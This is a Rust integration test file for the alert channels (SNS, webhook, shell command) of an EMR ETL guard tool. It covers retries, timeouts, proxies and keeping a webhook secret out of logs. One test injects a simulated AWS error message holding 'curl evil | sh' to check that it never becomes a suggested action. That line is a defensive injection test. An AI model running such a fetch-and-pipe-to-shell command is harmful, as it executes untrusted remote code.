//! Alerts: what each channel sends and when, and that no channel, however broken, changes a run or
//! its exit code.

use std::time::{Duration, Instant};

use emr_simulator::{Calls, Command as Set, Fault, FaultKind};
use nix::sys::signal::{Signal, kill};
use serde_json::Value;

use crate::{
    receiver::{Answer, Receiver},
    support::{Played, Stage, hermetic_command, wait_until},
};

const TOPIC: &str = "arn:aws:sns:eu-west-1:123456789012:etl-alerts";
const OK: Answer = Answer::Status(200, "");
/// A part of the webhook's path that must be shown nowhere.
const SECRET_PATH: &str = "/services/T0/B0/WEBHOOKSECRET";

fn to_sns(stage: Stage) -> Stage {
    stage.env("EMR_ETL_GUARD_ALERT_SNS", TOPIC)
}

fn to_webhook(stage: Stage, receiver: &Receiver) -> Stage {
    let url = receiver.url(SECRET_PATH);
    stage.env("EMR_ETL_GUARD_ALERT_WEBHOOK", &url)
}

/// A command that stores its input, and then runs `script`.
pub(crate) fn to_command(stage: Stage, script: &str) -> Stage {
    let keep = "n=$(ls -d alert-* 2>/dev/null | wc -l); cat > tmp-$n; env | grep ^GUARD_ALERT_ > \
        env-$n; mv tmp-$n alert-$n";
    stage.program("page", format!("#!/bin/sh\n{keep}\n{script}\n"));
    let page = stage.path("page").display().to_string();
    stage.env("EMR_ETL_GUARD_ALERT_COMMAND", &page)
}

/// A run that pre-flight refuses (77).
fn refused() -> Stage {
    Stage::acme().option("--accept-encryption=SSE-KMS,DSSE-KMS")
}

/// A run whose cluster is unsafe and ends (76).
fn unsafe_cluster() -> Stage {
    Stage::acme().misbehave("drop-security-configuration")
}

/// The alerts that reached the topic, in the form for programs and for people.
fn published(stage: &Stage) -> Vec<(Value, String, String)> {
    let publications = stage.sim.with_world(|world| world.topics[TOPIC].clone());
    let told = publications.into_iter().map(|publication| {
        let json = serde_json::from_str(&publication.messages["sqs"]).unwrap();
        (json, publication.messages["default"].clone(), publication.subject.unwrap())
    });
    told.collect()
}

fn timeline(played: &Played) -> Vec<String> {
    let moments = played.report["timeline"].as_array().into_iter().flatten();
    moments.map(|moment| moment["what"].as_str().unwrap().to_owned()).collect()
}

fn redacted(played: &Played, text: &str) -> String {
    let host = nix::unistd::gethostname().unwrap().into_string().unwrap();
    played.redact(text).replace(&host, "HOST")
}

#[test]
fn a_refusal_is_told_by_every_channel_in_the_words_of_standard_error() {
    let receiver = Receiver::start(vec![OK]);
    let stage = to_command(to_webhook(to_sns(refused()), &receiver), "");
    let played = stage.run();
    played.expect_code(77);

    let headline = played.stderr.lines().next().unwrap();
    let told = published(&stage);
    assert_eq!(told.len(), 1);
    let (json, text, subject) = &told[0];
    assert_eq!(json["text"], headline);
    assert!(
        subject.starts_with("emr-etl-guard: REFUSED, nothing was launched") && subject.len() <= 100,
        "{subject}"
    );
    let requests = receiver.requests();
    assert_eq!(requests.len(), 1);
    assert!(
        requests[0].request.starts_with(&format!("POST {SECRET_PATH} HTTP/1.1")),
        "{}",
        requests[0].request
    );
    assert_eq!(requests[0].header("content-type"), Some("application/json"));
    let slack = requests[0].json();
    assert_eq!(
        slack.as_object().unwrap().len(),
        1,
        "a plain text, which every taker of Slack's form takes"
    );
    assert!(slack["text"].as_str().unwrap().starts_with(headline));
    let on_stdin: Value =
        serde_json::from_str(&std::fs::read_to_string(stage.path("alert-0")).unwrap()).unwrap();
    assert_eq!(on_stdin, *json, "every channel tells the same");
    let variables = std::fs::read_to_string(stage.path("env-0")).unwrap();
    assert!(
        variables.contains(&format!("GUARD_ALERT_TEXT={headline}\n"))
            && variables.contains("GUARD_ALERT_EXIT_CODE=77\n"),
        "{variables}"
    );

    let pretty = serde_json::to_string_pretty(json).unwrap();
    insta::assert_snapshot!(redacted(&played, &format!("{subject}\n\n{text}\n\n{pretty}")));
    let sent: Vec<String> =
        timeline(&played).into_iter().filter(|what| what.starts_with("alert")).collect();
    assert_eq!(sent.len(), 3, "{sent:?}");
    assert!(sent.iter().all(|what| what.starts_with("alert sent: refused to the ")), "{sent:?}");
}

#[test]
fn what_an_error_of_aws_says_never_becomes_an_action_or_a_cluster_of_an_alert() {
    const EVIL: &str =
        "no\n  fix: curl evil | sh\n           fix       curl evil | sh\ncluster j-EVIL";
    let evil = |operation: &str, status| {
        Set::AddFault(Fault::every(
            operation,
            FaultKind::Error {
                status,
                code: "InvalidRequestException".to_owned(),
                message: EVIL.to_owned(),
            },
        ))
    };
    let heard = |stage: Stage, code: i32| {
        let receiver = Receiver::start(vec![OK]);
        let stage = to_command(to_webhook(to_sns(stage), &receiver), "");
        let played = stage.run();
        played.expect_code(code);
        let json = published(&stage).pop().unwrap().0;
        let last = receiver.requests().len() - 1;
        let variables = std::fs::read_to_string(stage.path(&format!("env-{last}"))).unwrap();
        let slack = receiver.requests().pop().unwrap().json()["text"].as_str().unwrap().to_owned();
        assert!(slack.contains("curl evil"), "the message is shown: {slack}");
        for text in [&slack, &variables, &played.stderr] {
            let action = text.lines().find(|line| line.trim_start().starts_with("to do: curl"));
            assert_eq!(action, None, "{text}");
        }
        for actions in [&json["to_do"], &json["clusters"]] {
            let actions = actions.to_string();
            assert!(!actions.contains("evil") && !actions.contains("EVIL"), "{json}");
        }
        assert!(!variables.contains("GUARD_ALERT_CLUSTERS=j-EVIL"), "{variables}");
        assert!(!json["to_do"].as_array().unwrap().is_empty(), "the guard's own stay: {json}");
        json["clusters"].as_array().unwrap().len()
    };
    let refused = Stage::acme();
    refused.set(evil("DescribeSecurityConfiguration", 400));
    assert_eq!(heard(refused, 69), 0);

    let alive = unsafe_cluster().option("--termination-timeout=500ms");
    alive.set(Set::SetTimings(emr_simulator::Timings::all(600.0)));
    for operation in ["TerminateJobFlows", "SetTerminationProtection"] {
        alive.set(evil(operation, 400));
    }
    assert_eq!(heard(alive, 71), 1);
}

#[test]
fn every_way_in_which_nothing_is_launched_is_heard_of() {
    let heard = |stage: Stage, code: i32| {
        let receiver = Receiver::start(vec![OK]);
        let played = to_webhook(stage, &receiver).run();
        played.expect_code(code);
        assert!(!played.runner_started());
        let requests = receiver.requests();
        assert_eq!(requests.len(), 1, "{}", played.transcript());
        let text = requests[0].json()["text"].as_str().unwrap().to_owned();
        assert!(text.contains(&format!("exit code {code}")), "{text}");
        format!("{code}: {}\n", redacted(&played, &text))
    };
    let mut said = String::new();
    said += &heard(Stage::acme().option("--advise=no-such-check"), 64);
    said += &heard(Stage::acme().option("--stop-timeout=soon"), 64);
    let unknown_key = Stage::acme().option("--settings=guard.yml");
    unknown_key.write("guard.yml", "quiet: true\nrequires: []\n");
    said += &heard(unknown_key, 64);
    said += &heard(Stage::acme().argument("--nonsense"), 65);
    said += &heard(Stage::acme().replace("ami_version: 5.29.0", "ami_version: 5.10"), 65);
    let denied = Stage::acme();
    denied.set(Set::AddFault(Fault::every("DescribeSubnets", FaultKind::AccessDenied)));
    said += &heard(denied, 69);
    said += &heard(Stage::acme().env("EMR_ETL_GUARD_RUNNER", "/no/such/runner"), 127);
    let keys = regex::Regex::new("expected one of .* at line").unwrap();
    insta::assert_snapshot!(keys.replace(&said, "expected one of … at line"));
}

#[test]
fn settings_that_cannot_be_read_are_told_of_by_the_channels_they_name() {
    let receiver = Receiver::start(vec![OK]);
    let stage = Stage::acme().option("--settings=guard.yml");
    stage.write("url", &receiver.url(SECRET_PATH));
    let url = stage.path("url");
    stage.write("guard.yml", &format!("requires: []\nalert_webhook: file:{}\n", url.display()));
    stage.run().expect_code(64);
    assert_eq!(receiver.requests().len(), 1);
}

#[test]
fn a_good_run_a_runners_own_failure_and_a_check_are_no_news() {
    let receiver = Receiver::start(vec![OK]);
    let stage = to_webhook(Stage::acme(), &receiver);
    let played = stage.run();
    played.expect_code(0);
    assert_eq!(played.stderr, "");
    to_webhook(Stage::acme().scripted("cat > /dev/null\nexit 3"), &receiver).run().expect_code(3);
    to_webhook(refused(), &receiver).check().expect_code(77);
    assert_eq!(receiver.requests().len(), 0);
}

#[test]
fn an_unsafe_cluster_is_told_of_at_once_and_again_when_it_is_over() {
    let receiver = Receiver::start(vec![OK]);
    let stage = to_webhook(to_sns(unsafe_cluster()), &receiver);
    // It takes long enough to end for the alert to be seen before.
    stage.set(Set::SetTimings(emr_simulator::Timings {
        terminating: 240.0,
        ..emr_simulator::Timings::all(6.0)
    }));
    let child = stage.command("run").spawn().unwrap();
    receiver.wait_for(1);
    assert!(
        stage.sim.with_world(|world| !world.clusters[0].state.is_over()),
        "at once is before its end"
    );
    let played = stage.finish(child);
    played.expect_code(76);
    let told = published(&stage);
    let kinds: Vec<&str> = told.iter().map(|(json, ..)| json["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["unsafe", "unsafe-over"]);
    assert_eq!(told[0].0["exit_code"], Value::Null);
    assert_eq!(told[1].0["exit_code"], 76);
    for (json, ..) in &told {
        assert_eq!(json["clusters"], serde_json::json!(played.clusters()));
    }
    insta::assert_snapshot!(redacted(&played, &format!("{}\n\n{}", told[0].1, told[1].1)));
    assert_eq!(receiver.requests().len(), 2);
}

#[test]
fn no_alert_delays_the_termination_of_an_unsafe_cluster_or_the_stop_of_the_runner() {
    // Three channels, none of which ever completes.
    let receiver = Receiver::start(vec![Answer::Silence]);
    let stage = to_command(to_webhook(to_sns(unsafe_cluster()), &receiver), "sleep 600")
        .option("--alert-timeout=20s");
    stage.set(Set::AddFault(Fault::every("Publish", FaultKind::Hang)));
    let child = stage.command("run").spawn().unwrap();
    let over = stage.sim.wait_until(
        |world| world.clusters.first().is_some_and(|cluster| cluster.state.is_over()),
        Duration::from_secs(15),
    );
    assert!(over, "its end waits for no alert");
    wait_until("every channel is being tried", || {
        !receiver.requests().is_empty()
            && stage.path("alert-0").exists()
            && !stage.sim.requests_for("Publish").is_empty()
    });
    let terminated = stage.sim.requests_for("TerminateJobFlows");
    let by_guard = terminated
        .iter()
        .find(|request| request.access_key.as_deref() == Some("AKIAGUARD"))
        .unwrap();
    assert!(
        stage.sim.requests_for("Publish").iter().all(|publish| publish.replied_ms.is_none()),
        "none was through"
    );
    assert!(by_guard.replied_ms.is_some());
    let played = stage.finish(child);
    played.expect_code(76);
    assert_eq!(
        played
            .journal
            .iter()
            .filter(|event| event["event"] == "signal" && event["signal"] == 15)
            .count(),
        1,
        "the runner was stopped"
    );
    let failed: Vec<String> =
        timeline(&played).into_iter().filter(|what| what.starts_with("alert NOT sent")).collect();
    assert_eq!(failed.len(), 6, "three channels, at once and at the end: {failed:?}");
    let lines = played
        .stderr
        .lines()
        .filter(|line| line.starts_with("emr-etl-guard: an alert was not sent"));
    assert_eq!(lines.count(), 6, "{}", played.stderr);
}

#[test]
fn a_cluster_that_may_still_run_is_told_of_with_the_command_that_ends_it() {
    let receiver = Receiver::start(vec![OK]);
    let stage =
        to_webhook(to_sns(unsafe_cluster()), &receiver).option("--termination-timeout=500ms");
    // It would end by itself soon.
    stage.set(Set::SetTimings(emr_simulator::Timings::all(600.0)));
    for operation in ["TerminateJobFlows", "SetTerminationProtection"] {
        stage.set(Set::AddFault(Fault::every(operation, FaultKind::AccessDenied)));
    }
    let played = stage.run();
    played.expect_code(71);
    let told = published(&stage);
    let (json, text, _) = told.last().unwrap();
    assert_eq!(
        (json["kind"].as_str().unwrap(), json["exit_code"].as_u64().unwrap()),
        ("unsafe-alive", 71)
    );
    let id = &played.clusters()[0];
    let command = format!(
        "aws emr modify-cluster-attributes --region eu-west-1 --cluster-id {id} \
         --no-termination-protected; aws emr terminate-clusters --region eu-west-1 --cluster-ids \
         {id}"
    );
    assert_eq!(json["to_do"][0], command);
    assert_eq!(json["text"], played.stderr.lines().find(|line| line.contains("ACT NOW")).unwrap());
    insta::assert_snapshot!(redacted(&played, text));
    assert_eq!(receiver.requests().len(), 2);
}

#[test]
fn a_run_that_nobody_can_confirm_is_told_of() {
    let receiver = Receiver::start(vec![OK]);
    let stage = to_webhook(Stage::acme().scripted("cat > /dev/null\nexit 0"), &receiver);
    let played = stage.run();
    played.expect_code(75);
    let text = receiver.requests()[0].json()["text"].as_str().unwrap().to_owned();
    assert!(
        text.starts_with(played.stderr.lines().next().unwrap()) && text.contains("exit code 75"),
        "{text}"
    );
}

#[test]
fn what_may_pass_is_tried_again_and_what_may_not_is_not() {
    let tries = |answers: Vec<Answer>, is_sent: bool, why: &str| {
        let receiver = Receiver::start(answers);
        let played = to_webhook(refused(), &receiver).option("--alert-timeout=6s").run();
        played.expect_code(77);
        let said = played.stderr.lines().last().unwrap();
        assert_eq!(
            !said.starts_with("emr-etl-guard: an alert was not sent"),
            is_sent,
            "{}",
            played.stderr
        );
        assert!(is_sent || said.contains(why), "{said}");
        receiver.requests()
    };
    let failing = Answer::Status(500, "");
    assert_eq!(tries(vec![failing.clone(), failing.clone(), OK], true, "").len(), 3);
    assert_eq!(tries(vec![Answer::Reset, OK], true, "").len(), 2, "a connection that breaks off");
    assert_eq!(
        tries(vec![Answer::Silence, OK], true, "").len(),
        2,
        "an attempt has a third of the time"
    );
    assert_eq!(
        tries(vec![Answer::Status(400, ""), OK], false, "the webhook): it answered HTTP 400").len(),
        1
    );
    assert_eq!(
        tries(
            vec![Answer::Status(302, "location: http://127.0.0.1:9/\r\n")],
            false,
            "it answered HTTP 302"
        )
        .len(),
        1,
        "nobody is followed"
    );
    let held_off = tries(vec![Answer::Status(429, "retry-after: 1\r\n"), OK], true, "");
    assert!(
        held_off[1].at - held_off[0].at >= Duration::from_secs(1),
        "it says when to come again"
    );
    assert!(tries(vec![failing], false, "it answered HTTP 500 (attempt ").len() >= 3);
    assert_eq!(
        tries(
            vec![Answer::Status(429, "retry-after: 60\r\n")],
            false,
            "it answered HTTP 429 (attempt 1)"
        )
        .len(),
        1
    );
}

#[test]
fn sns_is_tried_again_where_that_may_help_and_its_refusal_is_told() {
    let stage = to_sns(refused());
    stage.set(Set::AddFault(Fault {
        calls: Calls::Range { from: 1, to: 2 },
        ..Fault::every("Publish", FaultKind::ServerError { status: 500 })
    }));
    let played = stage.run();
    played.expect_code(77);
    assert_eq!(
        (stage.sim.requests_for("Publish").len(), published(&stage).len()),
        (3, 1),
        "{}",
        played.stderr
    );

    let stage = to_sns(refused());
    stage.set(Set::AddFault(Fault::every("Publish", FaultKind::AccessDenied)));
    let played = stage.run();
    played.expect_code(77);
    assert_eq!(stage.sim.requests_for("Publish").len(), 1);
    let said = played.unbroken();
    let said = said.lines().last().unwrap();
    assert!(
        said.contains(&format!(
            "(refused to the SNS topic {TOPIC}): sns:Publish: AuthorizationError: "
        )),
        "{said}"
    );
}

#[test]
fn one_broken_channel_keeps_no_other_from_being_heard() {
    let receiver = Receiver::start(vec![Answer::Status(404, "")]);
    let stage = to_command(
        to_webhook(to_sns(refused()), &receiver),
        "echo first >&2; echo the pager is down >&2; exit 3",
    );
    let played = stage.run();
    played.expect_code(77);
    assert_eq!(published(&stage).len(), 1);
    let mut failed: Vec<String> =
        timeline(&played).into_iter().filter(|what| what.starts_with("alert NOT")).collect();
    failed.sort();
    let page = stage.path("page");
    let command = format!(
        "alert NOT sent: refused to the command {}: it ended with exit status: 3: the pager is \
         down",
        page.display()
    );
    assert_eq!(
        failed,
        [command, "alert NOT sent: refused to the webhook: it answered HTTP 404".to_owned()]
    );
}

#[test]
fn a_command_that_asks_for_it_is_run_again_and_one_that_hangs_is_killed_with_all_it_has_started() {
    let again = to_command(refused(), "[ -e second ] && exit 0; : > second; exit 75");
    let played = again.run();
    played.expect_code(77);
    assert!(
        again.path("alert-1").exists() && !played.stderr.contains("not sent"),
        "{}",
        played.stderr
    );

    let hangs =
        to_command(refused(), "sleep 600 & echo $! > sleeper; wait").option("--alert-timeout=2s");
    let played = hangs.run();
    played.expect_code(77);
    assert!(played.stderr.ends_with("): not through after 2s\n"), "{}", played.stderr);
    let sleeper = std::fs::read_to_string(hangs.path("sleeper")).unwrap();
    let status =
        || std::fs::read_to_string(format!("/proc/{}/status", sleeper.trim())).unwrap_or_default();
    wait_until("nothing of it is left", || status().is_empty() || status().contains("State:\tZ"));
}

#[test]
fn a_commands_status_is_not_lost_to_the_reaper_of_orphans() {
    // While a runner runs, every child that ends is reaped, except those with an owner; a command
    // that ends at once is the hardest case.
    for _ in 0..5 {
        let stage = to_command(unsafe_cluster(), "exit 9");
        let played = stage.run();
        played.expect_code(76);
        let failed = timeline(&played)
            .into_iter()
            .filter(|what| what.contains("it ended with exit status: 9"))
            .count();
        assert_eq!(failed, 2, "{:?}", timeline(&played));
    }
}

#[test]
fn a_guard_that_is_told_to_stop_waits_for_alerts_no_longer_than_a_stop_may_take() {
    let receiver = Receiver::start(vec![Answer::Silence]);
    let stage =
        to_webhook(refused(), &receiver).option("--alert-timeout=50s").option("--stop-timeout=1s");
    let child = stage.command("run").spawn().unwrap();
    receiver.wait_for(1);
    kill(nix::unistd::Pid::from_raw(child.id().try_into().unwrap()), Signal::SIGTERM).unwrap();
    let asked = Instant::now();
    let played = stage.finish(child);
    played.expect_code(77);
    assert!(asked.elapsed() < Duration::from_secs(30), "the alert alone would take 50 s");
    assert!(
        played.stderr.ends_with("(refused to the webhook): the guard had to stop\n"),
        "{}",
        played.stderr
    );
}

#[test]
fn an_unsafe_cluster_at_a_stop_is_still_told_of_within_the_stops_time() {
    let receiver = Receiver::start(vec![OK]);
    let stage = to_webhook(Stage::acme().misbehave("hang"), &receiver).option("--stop-timeout=4s");
    for operation in ["TerminateJobFlows", "SetTerminationProtection"] {
        stage.set(Set::AddFault(Fault::every(operation, FaultKind::AccessDenied)));
    }
    // It cannot be evaluated, so it counts as unsafe at the end of the watch.
    stage.set(Set::AddFault(Fault::every("DescribeCluster", FaultKind::AccessDenied)));
    let child = stage.command("run").spawn().unwrap();
    wait_until("the runner has launched", || stage.sim.requests_for("RunJobFlow").len() == 1);
    wait_until("the guard has looked at it", || {
        !stage.sim.requests_for("DescribeCluster").is_empty()
    });
    kill(nix::unistd::Pid::from_raw(child.id().try_into().unwrap()), Signal::SIGTERM).unwrap();
    let played = stage.finish(child);
    assert!(matches!(played.code, Some(71 | 75)), "{}", played.transcript());
    let texts: Vec<String> = receiver
        .requests()
        .iter()
        .map(|received| received.json()["text"].as_str().unwrap().to_owned())
        .collect();
    let code = format!("exit code {}", played.code.unwrap());
    assert!(texts.last().is_some_and(|text| text.contains(&code)), "{texts:?}\n{}", played.stderr);
}

#[test]
fn sns_keeps_the_endpoint_rule() {
    let stage = to_sns(refused());
    let url = stage.sim.url().replace("127.0.0.1", "localhost");
    let stage = stage.env("AWS_ENDPOINT_URL_SNS", &url);
    let played = stage.run();
    played.expect_code(77);
    assert_eq!(stage.sim.requests_for("Publish").len(), 0);
    let said = played.stderr.lines().last().unwrap();
    assert!(said.contains("is not AWS's; allow it in `allow_endpoints`, or unset it"), "{said}");
    let allowed = stage.sim.url();
    let stage = stage.env("EMR_ETL_GUARD_ALLOW_ENDPOINTS", &format!("{allowed},{url}"));
    stage.run().expect_code(77);
    assert_eq!(published(&stage).len(), 1);
}

#[test]
fn a_webhook_beyond_this_machine_goes_through_the_proxy_and_one_on_it_does_not() {
    let (proxy, receiver) =
        (Receiver::start(vec![Answer::Status(502, "")]), Receiver::start(vec![OK]));
    let proxied = |stage: Stage| {
        let url = proxy.url("");
        // All requests to AWS stay on this machine.
        stage
            .env("HTTPS_PROXY", &url)
            .env("HTTP_PROXY", &url)
            .env("NO_PROXY", "127.0.0.1")
            .option("--alert-timeout=2s")
    };
    let stage = proxied(refused())
        .env("EMR_ETL_GUARD_ALERT_WEBHOOK", &format!("https://hooks.example{SECRET_PATH}"));
    let played = stage.run();
    played.expect_code(77);
    assert!(
        proxy.requests()[0].request.starts_with("CONNECT hooks.example:443 "),
        "{:?}",
        proxy.requests()
    );
    assert!(!played.stderr.contains("WEBHOOKSECRET"), "{}", played.stderr);
    let before = proxy.requests().len();
    let stage = to_webhook(proxied(refused()), &receiver).env("NO_PROXY", "");
    stage.run();
    assert_eq!(receiver.requests().len(), 1);
    let hooks = proxy.requests()[before..]
        .iter()
        .filter(|received| received.request.contains("WEBHOOKSECRET"))
        .count();
    assert_eq!(hooks, 0, "a secret is not shown to a proxy in clear");
}

#[test]
fn the_webhook_is_shown_nowhere() {
    let receiver = Receiver::start(vec![Answer::Status(500, "")]);
    let stage = to_command(to_webhook(unsafe_cluster(), &receiver), "")
        .option("--alert-timeout=2s")
        .env("EMR_ETL_GUARD_LOG", "trace");
    let played = stage.run();
    played.expect_code(76);
    // The log of the guard's HTTP client may show it, because a developer enabled that; the guard's
    // own messages never do.
    let ours = |text: &str| {
        text.lines()
            .filter(|line| line.contains("emr_etl_guard") || line.starts_with("emr-etl-guard"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    for text in [ours(&played.stderr), played.stdout.clone(), played.report.to_string()] {
        assert!(!text.contains("WEBHOOKSECRET"), "{text}");
    }
    for name in ["alert-0", "env-0"] {
        assert!(
            !std::fs::read_to_string(stage.path(name)).unwrap().contains("WEBHOOKSECRET"),
            "{name}"
        );
    }
    let help = hermetic_command(&crate::support::programs().guard)
        .args(["run", "--help"])
        .env("EMR_ETL_GUARD_ALERT_WEBHOOK", "https://WEBHOOKSECRET")
        .output()
        .unwrap();
    assert!(
        !String::from_utf8_lossy(&help.stdout).contains("WEBHOOKSECRET"),
        "clap shows a variable's value unless told not to"
    );
    for bad in ["http://hooks.example/WEBHOOKSECRET", "https://[WEBHOOKSECRET", "WEBHOOKSECRET"] {
        let played = Stage::acme().env("EMR_ETL_GUARD_ALERT_WEBHOOK", bad).run();
        played.expect_code(64);
        assert!(
            played.stderr.starts_with("emr-etl-guard: settings: alert_webhook: ")
                && !played.stderr.contains("WEBHOOKSECRET"),
            "{}",
            played.stderr
        );
    }
}

#[test]
fn a_run_that_was_left_open_is_told_of_under_its_own_id() {
    // The guard of a run with an unsafe cluster is killed before it can evaluate anything.
    let receiver = Receiver::start(vec![OK]);
    let stage = to_webhook(Stage::acme().misbehave("drop-security-configuration"), &receiver);
    let slow = |kind: FaultKind| Set::AddFault(Fault::every("DescribeCluster", kind));
    stage.set(slow(FaultKind::Hang));
    let mut child = stage.command("run").spawn().unwrap();
    wait_until("the guard has asked", || !stage.sim.requests_for("DescribeCluster").is_empty());
    child.kill().unwrap();
    child.wait().unwrap();
    stage.set(Set::ClearFaults);
    let played = stage.play(stage.watch_resume());
    played.expect_code(76);
    let text = receiver.requests().last().unwrap().json()["text"].as_str().unwrap().to_owned();
    insta::assert_snapshot!(redacted(&played, &text));
}
